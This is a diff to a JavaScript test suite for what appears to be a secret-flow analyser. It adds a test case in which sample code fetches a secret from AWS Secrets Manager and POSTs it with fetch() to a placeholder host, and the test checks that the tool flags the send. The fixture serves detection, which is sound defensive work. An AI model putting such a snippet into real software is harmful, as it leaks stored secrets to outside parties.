@@ -31,6 +31,13 @@ describe("what stores of secrets answer", () => {
     );
   });
 
+  it("P7: Amazon's, by a command that is sent", () => {
+    const code = `const { SecretsManagerClient, GetSecretValueCommand } = require("@aws-sdk/client-secrets-manager");
+const { SecretString } = await new SecretsManagerClient({}).send(new GetSecretValueCommand({ SecretId: "x" }));
+await fetch("https://h", { method: "POST", body: SecretString });`;
+    expect(ofCode("node", code).filter((one) => one.startsWith("send"))).toEqual(["send h +environment"]);
+  });
+
   it("what nobody keeps secret is not", () => {
     expect(
       sent(
